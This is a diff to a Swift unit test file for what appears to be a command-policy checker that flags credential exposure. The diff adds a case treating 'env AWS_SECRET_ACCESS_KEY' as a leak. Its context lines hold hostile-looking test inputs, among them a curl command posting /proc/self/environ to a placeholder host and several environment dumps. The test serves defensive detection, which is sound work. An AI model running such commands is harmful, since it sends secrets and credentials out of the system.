@@ -176,6 +176,8 @@ final class ExecJudgeTests: XCTestCase {
         XCTAssertEqual(reasons(judge("/usr/bin/env", ["env"])), ["credentials"])
         XCTAssertEqual(reasons(judge("/usr/bin/env", ["env", "-0"])), ["credentials"])
         XCTAssertEqual(reasons(judge("/usr/bin/curl", ["curl", "-d", "@/proc/self/environ", "https://x"])), ["credentials"])
+        policy.credentialVariables = [Bytes("AWS_SECRET_ACCESS_KEY".utf8)]
+        XCTAssertEqual(reasons(judge("/usr/bin/env", ["env", "AWS_SECRET_ACCESS_KEY"])), ["credentials"], "printenv NAME")
         XCTAssertTrue(judge("/usr/bin/env", ["env", "python3", "app.py"]).isClean)
         XCTAssertTrue(judge("/usr/bin/env", ["env", "A=1", "sh"]).isClean)
         XCTAssertTrue(judge("/usr/bin/curl", ["curl", "https://x/"]).isClean)
